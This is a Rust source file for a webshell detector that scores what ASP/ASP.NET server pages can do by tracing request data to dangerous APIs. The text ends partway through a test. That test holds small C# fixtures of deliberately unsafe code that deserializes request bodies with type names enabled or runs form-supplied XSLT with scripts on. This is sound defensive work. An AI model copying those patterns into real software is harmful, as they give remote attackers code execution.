//! Capability detection: what a page's server code can do, from the APIs it
//! calls and where request data flows, and a verdict from the combination.
//!
//! The capabilities, their patterns, weights and the verdict levels are data
//! (`data/webshell/capabilities.toml`, with the API documentation each comes
//! from); this module is the generic engine. It reads the normalised code
//! (see `normalize`), so renamed identifiers, split strings and encodings do
//! not hide an API call or a data flow.
//!
//! One capability alone is not a webshell (upload pages write files, admin
//! pages start processes); request data run as code is. The finding lists
//! every capability found, with the statement or API that showed it.

mod flow;
mod scope;

use std::sync::LazyLock;

use regex::Regex;
use seawall_model::{Confidence, Evidence, Finding, Location, Severity};
use serde::Deserialize;

use crate::Error;
use crate::detectors::{CATALOG, DetectorId};
use crate::normalize::Dialect;

const CAPABILITIES_TOML: &str = include_str!("../../../../data/webshell/capabilities.toml");

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CapabilityFile {
    verdict: VerdictLevels,
    authorization: AuthorizationSpec,
    sources: SourcesSpec,
    capability: Vec<CapabilitySpec>,
}

/// Score levels; a verdict also needs `min_capabilities` distinct capabilities
/// unless one of them is decisive.
#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct VerdictLevels {
    min_capabilities: usize,
    low: u32,
    medium: u32,
    high: u32,
    critical: u32,
    /// Medium or above needs a flow capability of at least this weight, or the high score.
    #[serde(default)]
    request_flow_weight: u32,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AuthorizationSpec {
    #[allow(dead_code)]
    description: String,
    #[allow(dead_code)]
    references: Vec<String>,
    framework: Vec<String>,
    application: Vec<String>,
}

/// The file the capabilities were found in, which sets the verdict's bar; `authorizes` when
/// its code consults the application's authorization (`[authorization]`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Holder {
    /// A server page (or any file with server markers).
    Page { authorizes: bool },
    /// A C#/VB.NET class file (see `Normalized::source_file`).
    ClassFile { authorizes: bool },
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct SourcesSpec {
    #[allow(dead_code)]
    description: String,
    #[allow(dead_code)]
    references: Vec<String>,
    patterns: Vec<String>,
    /// Sources in ASP.NET pages only (server-control properties).
    #[serde(default)]
    aspnet_patterns: Vec<String>,
    /// Sources inside a `With Request` block.
    #[serde(default)]
    with_request_patterns: Vec<String>,
    /// Source matches the server fills, not the visitor (see `whole_argument`).
    #[serde(default)]
    server_filled: Vec<String>,
    /// Request members that hold what the server or the connection sets, anywhere in code.
    #[serde(default)]
    server_values: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
enum Kind {
    Api,
    Flow,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CapabilitySpec {
    id: String,
    title: String,
    kind: Kind,
    weight: u32,
    #[serde(default)]
    decisive: bool,
    /// Lets the score reach medium without a request-driven capability (see [verdict]).
    #[serde(default)]
    strong: bool,
    #[serde(default)]
    patterns: Vec<String>,
    #[serde(default)]
    sinks: Vec<String>,
    #[serde(default = "yes")]
    method_sinks: bool,
    #[serde(default)]
    requires: Vec<String>,
    /// The capability does not apply to code that matches one of these.
    #[serde(default)]
    unless: Vec<String>,
    #[serde(default)]
    ignore_paths: Vec<String>,
    /// ProgIDs whose objects' methods of the sinks' names are other APIs: a method sink called
    /// on a variable set from `CreateObject` of one of these does not count.
    #[serde(default)]
    not_on_objects: Vec<String>,
    /// ProgIDs (or "textstream", a stream opened on a file) whose objects alone have the
    /// method sinks (`.Name`); sinks that are not methods are not limited.
    #[serde(default)]
    only_on_objects: Vec<String>,
    /// A sink whose arguments match one of these is not one (flow capabilities); for api
    /// capabilities, a pattern match that is a call with such arguments (another overload).
    #[serde(default)]
    ignore_arguments: Vec<String>,
    /// A sink call followed by one of these (its result's use) is not one (flow capabilities).
    #[serde(default)]
    ignore_following: Vec<String>,
    /// What this flow capability follows instead of request data: `sources` patterns, and
    /// with `sources_own_procedures` the results of functions the page defines.
    #[serde(default)]
    sources: Vec<String>,
    #[serde(default)]
    sources_own_procedures: bool,
    /// Also follow the page's password inputs: `<input type="password" name="x">` posted as
    /// `Request.Form["x"]`, `<asp:TextBox TextMode="Password" ID="x">` read as `x.Text`.
    #[serde(default)]
    sources_password_inputs: bool,
    /// The code must hold a string literal of at least this many characters.
    #[serde(default)]
    requires_literal_chars: usize,
    /// Code run through a procedure of the page that reads a file (a template or plugin
    /// engine) does not count.
    #[serde(default)]
    ignore_file_code: bool,
    /// A sink counts only when its first argument is request data from its start: the
    /// visitor supplies all of it (a whole path or connection string), not a part.
    #[serde(default)]
    whole_argument: bool,
    /// Data put into a collection (`d.Add k, v`) is followed to what reads the collection.
    #[serde(default)]
    follow_containers: bool,
    /// When not empty, a pattern match counts only when the function it calls (the last
    /// name before its final `(`) is defined in the page or is one of these (api capabilities).
    #[serde(default)]
    callee_defined_or: Vec<String>,
    #[serde(default)]
    requires_dialect: Option<DialectName>,
    references: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
enum DialectName {
    Vb,
    Clike,
}

impl DialectName {
    fn matches(self, dialect: Dialect) -> bool {
        matches!((self, dialect), (DialectName::Vb, Dialect::Vb) | (DialectName::Clike, Dialect::CLike))
    }
}

fn yes() -> bool {
    true
}

#[derive(Debug)]
struct Capability {
    id: String,
    title: String,
    kind: Kind,
    weight: u32,
    decisive: bool,
    strong: bool,
    patterns: Vec<Regex>,
    method_sinks: bool,
    requires: Vec<Regex>,
    unless: Vec<Regex>,
    ignore_paths: Vec<Regex>,
    /// Lowercase ProgIDs (see the spec).
    not_on_objects: Vec<String>,
    /// Lowercase (see the spec).
    only_on_objects: Vec<String>,
    ignore_arguments: Vec<Regex>,
    ignore_following: Vec<Regex>,
    /// Lowercase (see the spec).
    callee_defined_or: Vec<String>,
    /// Its own sources (see the spec); `None` follows request data.
    own_sources: Option<OwnSources>,
    requires_literal_chars: usize,
    whole_argument: bool,
    follow_containers: bool,
    ignore_file_code: bool,
    requires_dialect: Option<DialectName>,
    references: Vec<String>,
}

impl Capability {
    /// Whether request data a page hands to another file's procedure counts when it reaches
    /// this capability's sink there: run as code, a process or a script (decisive), or taken
    /// whole as a path, URL, connection string or page (`whole_argument`). Libraries take
    /// request data into files and SQL statements on every page.
    fn counts_through_companions(&self) -> bool {
        self.kind == Kind::Flow && self.own_sources.is_none() && (self.decisive || self.whole_argument)
    }
}

/// What a flow capability follows when it is not request data.
#[derive(Debug)]
struct OwnSources {
    patterns: Vec<Regex>,
    own_procedures: bool,
    password_inputs: bool,
}

impl OwnSources {
    /// The names that carry the data from the start on one page: its own functions (their
    /// results), when followed; none otherwise.
    fn seeds(&self, code: &str) -> std::collections::HashSet<String> {
        if self.own_procedures { flow::own_procedures(code) } else { std::collections::HashSet::new() }
    }
}

/// A capability shown in a page, with what showed it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Shown {
    pub(crate) id: String,
    pub(crate) weight: u32,
    pub(crate) decisive: bool,
    /// Shown by request data reaching a sink (a `flow` capability).
    pub(crate) request_driven: bool,
    /// Marked `strong` in the data.
    pub(crate) strong: bool,
    pub(crate) evidence: String,
}

/// What one page's assessment found.
#[derive(Debug, Default)]
pub(crate) struct Assessment {
    pub(crate) shown: Vec<Shown>,
    /// The procedures the page calls with request data (lowercase), when asked for.
    pub(crate) called_with_request: std::collections::HashSet<String>,
    /// Bounds the data-flow analysis reached on the page (see `flow`).
    pub(crate) limits: Vec<String>,
}

/// The compiled capability data.
#[derive(Debug)]
pub(crate) struct CapabilityEngine {
    sources: Vec<Regex>,
    aspnet_sources: Vec<Regex>,
    with_request_sources: Vec<Regex>,
    server_filled: Vec<Regex>,
    server_values: Vec<Regex>,
    framework_authorization: Vec<Regex>,
    application_authorization: Vec<Regex>,
    capabilities: Vec<Capability>,
    levels: VerdictLevels,
}

fn compile(pattern: &str, what: &str) -> Result<Regex, Error> {
    crate::pattern::compile(pattern).map_err(|e| Error::Builtin(format!("capabilities.toml: {what}: {e}")))
}

fn compile_all(patterns: &[String], what: &str) -> Result<Vec<Regex>, Error> {
    patterns.iter().map(|p| compile(p, what)).collect()
}

impl CapabilityEngine {
    /// The engine over the embedded data file.
    pub(crate) fn embedded() -> Result<CapabilityEngine, Error> {
        CapabilityEngine::from_toml(CAPABILITIES_TOML)
    }

    pub(crate) fn from_toml(text: &str) -> Result<CapabilityEngine, Error> {
        let file: CapabilityFile =
            toml::from_str(text).map_err(|e| Error::Builtin(format!("capabilities.toml: {e}")))?;
        let mut capabilities = Vec::new();
        for spec in file.capability {
            let what = spec.id.clone();
            let patterns = match spec.kind {
                Kind::Api => compile_all(&spec.patterns, &what)?,
                Kind::Flow => compile_all(&spec.sinks, &what)?,
            };
            if patterns.is_empty() || spec.references.is_empty() {
                return Err(Error::Builtin(format!("capabilities.toml: {what}: needs patterns/sinks and references")));
            }
            capabilities.push(Capability {
                id: spec.id,
                title: spec.title,
                kind: spec.kind,
                weight: spec.weight,
                decisive: spec.decisive,
                strong: spec.strong,
                patterns,
                method_sinks: spec.method_sinks,
                requires: compile_all(&spec.requires, &what)?,
                unless: compile_all(&spec.unless, &what)?,
                ignore_paths: compile_all(&spec.ignore_paths, &what)?,
                not_on_objects: spec.not_on_objects.iter().map(|p| p.to_ascii_lowercase()).collect(),
                only_on_objects: spec.only_on_objects.iter().map(|p| p.to_ascii_lowercase()).collect(),
                ignore_arguments: compile_all(&spec.ignore_arguments, &what)?,
                ignore_following: compile_all(&spec.ignore_following, &what)?,
                callee_defined_or: spec.callee_defined_or.iter().map(|p| p.to_ascii_lowercase()).collect(),
                requires_literal_chars: spec.requires_literal_chars,
                whole_argument: spec.whole_argument,
                follow_containers: spec.follow_containers,
                ignore_file_code: spec.ignore_file_code,
                own_sources: (!spec.sources.is_empty() || spec.sources_own_procedures).then_some(OwnSources {
                    password_inputs: spec.sources_password_inputs,
                    patterns: compile_all(&spec.sources, &what)?,
                    own_procedures: spec.sources_own_procedures,
                }),
                requires_dialect: spec.requires_dialect,
                references: spec.references,
            });
        }
        Ok(CapabilityEngine {
            sources: compile_all(&file.sources.patterns, "sources")?,
            aspnet_sources: compile_all(&file.sources.aspnet_patterns, "sources")?,
            with_request_sources: compile_all(&file.sources.with_request_patterns, "sources")?,
            server_filled: compile_all(&file.sources.server_filled, "sources")?,
            server_values: compile_all(&file.sources.server_values, "sources")?,
            framework_authorization: compile_all(&file.authorization.framework, "authorization")?,
            application_authorization: compile_all(&file.authorization.application, "authorization")?,
            capabilities,
            levels: file.verdict,
        })
    }

    /// Every capability the page shows (see [`CapabilityEngine::assess_page`]).
    #[cfg(test)]
    pub(crate) fn assess(&self, code: &str, page: &str, dialect: Dialect, display_path: &str) -> Vec<Shown> {
        self.assess_page(code, page, dialect, display_path).shown
    }

    /// Every capability the page shows, and the bounds its data-flow analysis reached:
    /// `code` is its normalised server code, `page` the whole normalised page (for the
    /// inputs it declares).
    pub(crate) fn assess_page(&self, code: &str, page: &str, dialect: Dialect, display_path: &str) -> Assessment {
        self.assess_page_calls(code, page, dialect, display_path, false)
    }

    /// [`Self::assess_page`], and with `calls` the procedures the page hands request data to
    /// (see `companions`: which of another file's procedures to read with it).
    pub(crate) fn assess_page_calls(
        &self,
        code: &str,
        page: &str,
        dialect: Dialect,
        display_path: &str,
        calls: bool,
    ) -> Assessment {
        // Each VB procedure's locals are its own names (see `scope`).
        let scoped = if dialect == Dialect::Vb { scope::scope_vb_locals(code) } else { None };
        let code = scoped.as_deref().unwrap_or(code);
        static WITH_REQUEST: LazyLock<Regex> =
            LazyLock::new(|| crate::pattern::builtin(r"(?im)^\s*With\s+(?:\w+\.)?Request\s*$"));
        // The page's data moves are found once; each kind of taint is followed over them once.
        let mut flows: Option<flow::Flows<'_>> = None;
        // Request members the server sets, and lookups in the page's tables of literals: blanked
        // before request data is looked for.
        let (lookups, more_tables) = flow::literal_table_lookups(code);
        let blanked: std::borrow::Cow<'_, [Regex]> = if lookups.is_empty() {
            std::borrow::Cow::Borrowed(&self.server_values)
        } else {
            std::borrow::Cow::Owned(self.server_values.iter().cloned().chain(lookups).collect())
        };
        let mut taint: Option<flow::Taint<'_>> = None;
        let mut whole_taint: Option<flow::Taint<'_>> = None;
        // The same, through the collections the page fills (`follow_containers`).
        let mut container_taint: Option<flow::Taint<'_>> = None;
        let mut whole_container_taint: Option<flow::Taint<'_>> = None;
        let mut capped = false;
        let mut limits = Vec::new();
        if more_tables {
            limits.push(format!("dictionaries read as tables of literals: the first {} only", flow::MAX_DICTIONARIES));
        }
        let mut sources = self.sources.clone();
        if WITH_REQUEST.is_match(code) {
            sources.extend(self.with_request_sources.iter().cloned());
        }
        if is_aspnet(page) {
            sources.extend(self.aspnet_sources.iter().cloned());
            sources.extend(server_input_sources(page));
            let (parameters, more) = flow::web_method_parameters(code);
            if more {
                limits.push(format!(
                    "parameters of the first {} web methods read as request data only",
                    flow::MAX_WEB_METHODS
                ));
            }
            let parameters: Vec<String> = parameters.iter().map(|p| regex::escape(p)).collect();
            if !parameters.is_empty() {
                sources.extend(crate::pattern::compile(&format!(r"\b(?:{})\b", parameters.join("|"))).ok());
            }
        }
        // The page's own procedures, found when a capability first asks.
        let own_procedures = std::cell::OnceCell::new();
        let own = || own_procedures.get_or_init(|| flow::own_procedures(code));
        let mut shown = Vec::new();
        for capability in &self.capabilities {
            if capability.ignore_paths.iter().any(|p| p.is_match(display_path))
                || !capability.requires.iter().all(|r| r.is_match(code))
                || capability.unless.iter().any(|r| r.is_match(code))
                || capability.requires_dialect.is_some_and(|d| !d.matches(dialect))
                || (capability.requires_literal_chars > 0
                    && flow::longest_literal(code) < capability.requires_literal_chars)
            {
                continue;
            }
            let evidence = match capability.kind {
                Kind::Api => {
                    let callee_allowed = |m: &regex::Match<'_>| {
                        if capability.callee_defined_or.is_empty() {
                            return true;
                        }
                        let text = m.as_str().trim_end_matches('(');
                        let Some(callee) = text.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next() else {
                            return false;
                        };
                        let callee = callee.to_ascii_lowercase();
                        capability.callee_defined_or.contains(&callee) || own().contains(&callee)
                    };
                    // A call whose arguments say it is another overload (`ignore_arguments`).
                    let other_overload = |m: &regex::Match<'_>| {
                        !capability.ignore_arguments.is_empty()
                            && m.as_str().find('(').is_some_and(|open| {
                                let args = flow::argument_text(&code[m.start() + open..]);
                                capability.ignore_arguments.iter().any(|r| r.is_match(args))
                            })
                    };
                    let found = |m: &regex::Match<'_>| {
                        let file_code = capability.ignore_file_code && calls_file_reader_at(code, own(), m.start());
                        callee_allowed(m) && !other_overload(m) && !in_component_list(code, m.start()) && !file_code
                    };
                    capability.patterns.iter().find_map(|p| p.find_iter(code).find(|m| found(m))).map(|m| {
                        // A pattern may start with the separator before its word (`(?:^|[^.\w])`).
                        let skip = m.as_str().chars().next().filter(|c| !c.is_alphanumeric()).map_or(0, char::len_utf8);
                        line_around(code, (m.start() + skip).min(m.end()))
                    })
                }
                Kind::Flow => {
                    if !capability.patterns.iter().any(|p| p.is_match(code)) {
                        continue;
                    }
                    let sinks = flow::Sinks {
                        patterns: &capability.patterns,
                        methods: capability.method_sinks,
                        not_on_objects: &capability.not_on_objects,
                        only_on_objects: &capability.only_on_objects,
                        ignore_arguments: &capability.ignore_arguments,
                        ignore_following: &capability.ignore_following,
                        ignore_file_code: capability.ignore_file_code,
                    };
                    let flows = &*flows.get_or_insert_with(|| flow::flows(code));
                    let no_seeds = std::collections::HashSet::new();
                    // Without collections filled, the taint through them is the plain one.
                    let containers = capability.follow_containers && flows.fills_containers();
                    let mut follow = |sources: &[Regex], seeds: &std::collections::HashSet<String>, reach| {
                        let followed = flow::propagate_from(flows, sources, seeds, reach, &blanked, containers);
                        capped |= followed.capped;
                        followed
                    };
                    let statements = &flows.statements;
                    match &capability.own_sources {
                        None if capability.whole_argument => {
                            let reach = flow::Reach::Whole { server_filled: &self.server_filled };
                            let taint = if containers { &mut whole_container_taint } else { &mut whole_taint };
                            let taint = taint.get_or_insert_with(|| follow(&sources, &no_seeds, reach));
                            flow::tainted_sink(code, statements, &sinks, taint, &sources)
                        }
                        None if containers => {
                            let taint = container_taint
                                .get_or_insert_with(|| follow(&sources, &no_seeds, flow::Reach::Anywhere));
                            flow::tainted_sink(code, statements, &sinks, taint, &sources)
                        }
                        None => {
                            let taint = taint.get_or_insert_with(|| follow(&sources, &no_seeds, flow::Reach::Anywhere));
                            flow::tainted_sink(code, statements, &sinks, taint, &sources)
                        }
                        Some(own) => {
                            let with_inputs;
                            let patterns = match own.password_inputs.then(|| password_inputs(page)).flatten() {
                                Some(inputs) => {
                                    with_inputs = own.patterns.iter().cloned().chain([inputs]).collect::<Vec<_>>();
                                    &with_inputs
                                }
                                None => &own.patterns,
                            };
                            let taint = follow(patterns, &own.seeds(code), flow::Reach::Anywhere);
                            flow::tainted_sink(code, statements, &sinks, &taint, patterns)
                        }
                    }
                }
            };
            if let Some(evidence) = evidence {
                shown.push(Shown {
                    id: capability.id.clone(),
                    weight: capability.weight,
                    decisive: capability.decisive,
                    request_driven: capability.kind == Kind::Flow && capability.own_sources.is_none(),
                    strong: capability.strong,
                    evidence: scope::unscoped(&evidence).into_owned(),
                });
            }
        }
        let mut called_with_request = std::collections::HashSet::new();
        if calls {
            let flows = &*flows.get_or_insert_with(|| flow::flows(code));
            let taint = taint.get_or_insert_with(|| {
                let no_seeds = std::collections::HashSet::new();
                flow::propagate_from(flows, &sources, &no_seeds, flow::Reach::Anywhere, &blanked, false)
            });
            capped |= taint.capped;
            let more;
            (called_with_request, more) = flow::called_with(flows, taint, &sources);
            if more {
                limits.push(format!(
                    "calls handing request data to other files' procedures looked for in the first {} only",
                    flow::MAX_CALLS_EXAMINED
                ));
            }
        }
        limits.extend(flows.map(|f| f.limits).unwrap_or_default());
        if capped {
            limits.push("data flow followed for a bounded number of passes; names tainted later were not".to_owned());
        }
        Assessment { shown, called_with_request, limits }
    }

    /// Whether `text` holds a sink of a capability that counts when reached through a page's
    /// companions (see [`Self::through_companions`]).
    pub(crate) fn holds_companion_sink(&self, text: &str) -> bool {
        self.capabilities
            .iter()
            .filter(|c| c.counts_through_companions())
            .any(|c| c.patterns.iter().any(|p| p.is_match(text)))
    }

    /// The request-driven capabilities the page shows only with its companions (see
    /// `companions`): each with the index of the companion whose code holds its sink. The
    /// page's code is read with theirs as one; a capability counts when its evidence is a
    /// companion's statement, so an API a helper merely contains does not (request data of
    /// this page must reach it); only those that count through companions do (see
    /// `Capability::counts_through_companions`).
    pub(crate) fn through_companions(
        &self,
        page_code: &str,
        page: &str,
        dialect: Dialect,
        display_path: &str,
        companions: &[&str],
    ) -> (Vec<(Shown, usize)>, Vec<String>) {
        let mut combined =
            String::with_capacity(page_code.len() + companions.iter().map(|c| c.len() + 1).sum::<usize>());
        combined.push_str(page_code);
        for code in companions {
            combined.push('\n');
            combined.push_str(code);
        }
        let assessment = self.assess_page(&combined, page, dialect, display_path);
        let through = assessment
            .shown
            .into_iter()
            .filter(|s| {
                s.request_driven
                    && self.capabilities.iter().any(|c| c.id == s.id && c.counts_through_companions())
                    && !page_code.contains(s.evidence.as_str())
            })
            .filter_map(|s| {
                let holder = companions.iter().position(|code| code.contains(s.evidence.as_str()))?;
                Some((s, holder))
            })
            .collect();
        (through, assessment.limits)
    }

    /// The verdict's severity for a set of capabilities, `None` below `low`.
    #[cfg(test)]
    pub(crate) fn severity(&self, shown: &[Shown]) -> Option<Severity> {
        self.severity_of(shown, Holder::Page { authorizes: false })
    }

    /// What holds the code: a page or a class file, and whether it consults the application's
    /// authorization (the framework's anywhere, the application's own helpers in class files).
    pub(crate) fn holder(&self, code: &str, class_file: bool) -> Holder {
        let framework = self.framework_authorization.iter().any(|p| p.is_match(code));
        if class_file {
            let authorizes = framework || self.application_authorization.iter().any(|p| p.is_match(code));
            Holder::ClassFile { authorizes }
        } else {
            Holder::Page { authorizes: framework }
        }
    }

    /// [`CapabilityEngine::severity`]; in a class file a score without a decisive capability is
    /// at most low below the high level (a class holds a whole application's worth of APIs, a
    /// page a few), and in any file at most low behind the application's authorization.
    fn severity_of(&self, shown: &[Shown], holder: Holder) -> Option<Severity> {
        let score: u32 = shown.iter().map(|s| s.weight).sum();
        let decisive = shown.iter().any(|s| s.decisive);
        if !decisive && shown.len() < self.levels.min_capabilities {
            return None;
        }
        let levels = self.levels;
        let by_score = if score >= levels.critical {
            Some(Severity::Critical)
        } else if score >= levels.high {
            Some(Severity::High)
        } else if score >= levels.medium {
            Some(Severity::Medium)
        } else if score >= levels.low {
            Some(Severity::Low)
        } else {
            None
        };
        if decisive {
            return by_score.max(Some(Severity::High));
        }
        let driven = shown.iter().any(|s| (s.request_driven && s.weight >= levels.request_flow_weight) || s.strong);
        let capped = match holder {
            Holder::ClassFile { authorizes: true } | Holder::Page { authorizes: true } => true,
            Holder::ClassFile { authorizes: false } => score < levels.high,
            Holder::Page { authorizes: false } => !driven && score < levels.high,
        };
        if capped { by_score.min(Some(Severity::Low)) } else { by_score }
    }

    /// `SW-WEBSHELL-CAPABILITIES`: the page's capabilities add up to a webshell.
    pub(crate) fn finding(
        &self,
        shown: &[Shown],
        display_path: &str,
        applied: &[&str],
        holder: Holder,
    ) -> Option<Finding> {
        let severity = self.severity_of(shown, holder)?;
        let score: u32 = shown.iter().map(|s| s.weight).sum();
        let ids: Vec<&str> = shown.iter().map(|s| s.id.as_str()).collect();
        let mut described = CATALOG.describe(
            DetectorId::Capabilities,
            &[],
            &[("score", &score.to_string()), ("capabilities", &ids.join(", "))],
        );
        let mut evidence: Vec<Evidence> = shown
            .iter()
            .map(|s| {
                let title = self.capabilities.iter().find(|c| c.id == s.id).map_or("", |c| c.title.as_str());
                Evidence::text(format!("capability {} (+{})", s.id, s.weight), &format!("{title}: {}", s.evidence))
            })
            .collect();
        if !applied.is_empty() {
            evidence.push(Evidence::text("normalisation", &format!("seen after: {}", applied.join(", "))));
        }
        let decisive = shown.iter().any(|s| s.decisive);
        // The score decides how bad and how sure (data/webshell/capabilities.toml [verdict]).
        described.severity = severity;
        described.confidence =
            if decisive || severity >= Severity::High { Confidence::High } else { Confidence::Medium };
        let location = Location::File { path: display_path.to_owned(), line: None, record: None };
        let mut finding = described.finding(&location, evidence, &[]);
        let mut references: Vec<String> = self
            .capabilities
            .iter()
            .filter(|c| ids.contains(&c.id.as_str()))
            .flat_map(|c| c.references.iter().filter(|r| r.starts_with("https://")).take(1).cloned())
            .collect();
        references.dedup();
        finding.references = references;
        Some(finding)
    }

    /// `SW-WEBSHELL-HELPER`: the file at `display_path` holds the sinks of `shown`, reached by
    /// request data of the page `page_display` whose verdict (`page_finding`) they raised.
    pub(crate) fn helper_finding(
        &self,
        shown: &[&Shown],
        display_path: &str,
        page_display: &str,
        how: &str,
        page_finding: &Finding,
    ) -> Finding {
        let ids: Vec<&str> = shown.iter().map(|s| s.id.as_str()).collect();
        let mut described =
            CATALOG.describe(DetectorId::Helper, &[], &[("capabilities", &ids.join(", ")), ("page", page_display)]);
        let mut evidence = vec![Evidence::text("page", &format!("{page_display} reads this file as its {how}"))];
        evidence.extend(shown.iter().map(|s| {
            let title = self.capabilities.iter().find(|c| c.id == s.id).map_or("", |c| c.title.as_str());
            Evidence::text(format!("capability {} (+{})", s.id, s.weight), &format!("{title}: {}", s.evidence))
        }));
        described.severity = page_finding.severity;
        described.confidence = page_finding.confidence;
        let location = Location::File { path: display_path.to_owned(), line: None, record: None };
        let mut finding = described.finding(&location, evidence, &[page_display]);
        finding.references.clone_from(&page_finding.references);
        finding
    }
}

/// Whether the page is ASP.NET (server controls, page directives, .NET source), where
/// server-control properties carry posted data.
pub(crate) fn is_aspnet(page: &str) -> bool {
    static ASPNET: LazyLock<Regex> = LazyLock::new(|| {
        crate::pattern::builtin(
            r#"(?i)runat\s*=\s*["']?server|<%@\s*(?:Page|Control|Master|WebHandler|WebService|ServiceHost|Application|Import|Assembly)\b|\busing System\b|\bImports System\b"#,
        )
    });
    ASPNET.is_match(page)
}

/// Inputs the page declares as server controls (`<input runat="server" id="x">`,
/// `<asp:TextBox runat="server" ID="x">`): their `.Value`/`.Text` is posted data.
fn server_input_sources(page: &str) -> Option<Regex> {
    static INPUT: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern::builtin(r#"(?i)<(?:input|textarea|select|asp:[a-z]+)\b[^>]{0,400}>"#));
    static ID: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern::builtin(r#"(?i)\bid\s*=\s*["']?([A-Za-z_]\w{0,60})"#));
    let mut ids: Vec<String> = Vec::new();
    for tag in INPUT.find_iter(page).take(500) {
        let tag = tag.as_str();
        if !tag.to_ascii_lowercase().contains("runat") {
            continue;
        }
        if let Some(id) = ID.captures(tag) {
            ids.push(regex::escape(&id[1]));
        }
    }
    if ids.is_empty() {
        return None;
    }
    ids.sort();
    ids.dedup();
    crate::pattern::compile(&format!(r"\b(?:{})\.(?:Value|Text)\b", ids.join("|"))).ok()
}

/// The page's password inputs as sources: `<input type="password" name="x">` is posted as
/// `Request.Form["x"]`; a server control (`runat="server"`, `<asp:TextBox TextMode="Password"
/// ID="x">`) is read as `x.Text`/`x.Value` (HTML input types, ASP.NET TextBoxMode).
fn password_inputs(page: &str) -> Option<Regex> {
    static INPUT: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern::builtin(r#"(?i)<(?:input|asp:TextBox)\b[^>]{0,400}>"#));
    static PASSWORD: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern::builtin(r#"(?i)\b(?:type|TextMode)\s*=\s*["']?password\b"#));
    static ATTRIBUTE: LazyLock<Regex> =
        LazyLock::new(|| crate::pattern::builtin(r#"(?i)\b(id|name)\s*=\s*["']?([A-Za-z_][\w$]{0,60})"#));
    let mut alternatives: Vec<String> = Vec::new();
    for tag in INPUT.find_iter(page).take(500).map(|m| m.as_str()).filter(|t| PASSWORD.is_match(t)) {
        for c in ATTRIBUTE.captures_iter(tag) {
            let name = regex::escape(&c[2]);
            let posted = format!(r#"(?:\bRequest|\.(?:Form|Params|Item))\s*[(\[]\s*"{name}"\s*[)\]]"#);
            alternatives.push(if c[1].eq_ignore_ascii_case("id") {
                format!(r"\b{name}\.(?:Text|Value)\b|{posted}")
            } else {
                posted
            });
        }
    }
    if alternatives.is_empty() {
        return None;
    }
    alternatives.sort();
    alternatives.dedup();
    crate::pattern::compile(&format!("(?i){}", alternatives.join("|"))).ok()
}

/// Whether `offset` is inside a literal of a list of class names (`Array("Scripting.FileSystemObject",
/// "WScript.Shell", ...)`): pages that report which components the server has try each
/// name in turn, which is not using any of them.
fn in_component_list(code: &str, offset: usize) -> bool {
    static PROG_ID: LazyLock<Regex> = LazyLock::new(|| {
        crate::pattern::builtin(r#"(?:^|[(,{\[])\s*"[A-Za-z][\w-]*\.[A-Za-z][\w.-]*"\s*(?:$|[),}\]])"#)
    });
    let (start, line) = line_of(code, offset);
    if !flow::inside_literal(line, offset - start) {
        return false;
    }
    // Each name is a literal of its own between list separators; four make a list.
    let mut names = 0;
    let mut at = 0;
    while let Some(m) = PROG_ID.find_at(line, at) {
        names += 1;
        // The separator after a name starts the next one.
        at = m.end().saturating_sub(1).max(m.start() + 1);
    }
    names >= 4
}

/// Whether the statement from `offset` to its line's end calls a procedure that reads a file.
fn calls_file_reader_at(code: &str, own: &std::collections::HashSet<String>, offset: usize) -> bool {
    // A pattern may start with the line break before its word.
    let offset = if code[offset..].starts_with('\n') { offset + 1 } else { offset };
    let (start, line) = line_of(code, offset);
    flow::calls_file_reader(code, own, &line[offset - start..])
}

/// The line of `code` holding byte `offset` (a character boundary): where it starts, and its text.
fn line_of(code: &str, offset: usize) -> (usize, &str) {
    let start = code[..offset].rfind('\n').map_or(0, |i| i + 1);
    let end = code[offset..].find('\n').map_or(code.len(), |i| offset + i);
    (start, &code[start..end])
}

/// The line of `code` holding `offset`, bounded, for evidence.
fn line_around(code: &str, offset: usize) -> String {
    let (start, line) = line_of(code, offset);
    if line.len() <= 200 {
        return line.to_owned();
    }
    let from = offset - start;
    let lo = line.floor_char_boundary(from.saturating_sub(60));
    let hi = line.floor_char_boundary((from + 140).min(line.len()));
    line[lo..hi].to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    impl CapabilityEngine {
        fn assess_code(&self, code: &str, path: &str) -> Vec<Shown> {
            let dialect = if code.contains(';') { Dialect::CLike } else { Dialect::Vb };
            self.assess(code, code, dialect, path)
        }
    }

    #[test]
    fn request_data_given_to_type_building_deserializers_and_script_enabled_stylesheets_runs() {
        let e = engine();
        let decisive = |code: &str, id: &str| e.assess_code(code, "/x/a.ashx").iter().any(|s| s.id == id && s.decisive);
        let json = "var st=new JsonSerializerSettings{TypeNameHandling=TypeNameHandling.All};\n\
                    using(var r=new StreamReader(context.Request.InputStream))body=r.ReadToEnd();\n\
                    object o=JsonConvert.DeserializeObject<object>(body,st);";
        assert!(decisive(json, "request-json-type-names"));
        assert!(!decisive(&json.replace("TypeNameHandling.All", "TypeNameHandling.None"), "request-json-type-names"));
        let ndcs = "var ser=new NetDataContractSerializer();\nobject p=ser.ReadObject(Request.InputStream);";
        assert!(decisive(ndcs, "request-deserialization"));
        let typed = "var ser=new DataContractSerializer(typeof(Order));\nobject p=ser.ReadObject(Request.InputStream);";
        assert!(!decisive(typed, "request-deserialization"));
        let xslt = "var x=new XslCompiledTransform();\nvar r=XmlReader.Create(new StringReader(Request.Form[\"s\"]));\n\
                    x.Load(r,new XsltSettings(false,true),null);";
        assert!(decisive(xslt, "request-xslt-script"));
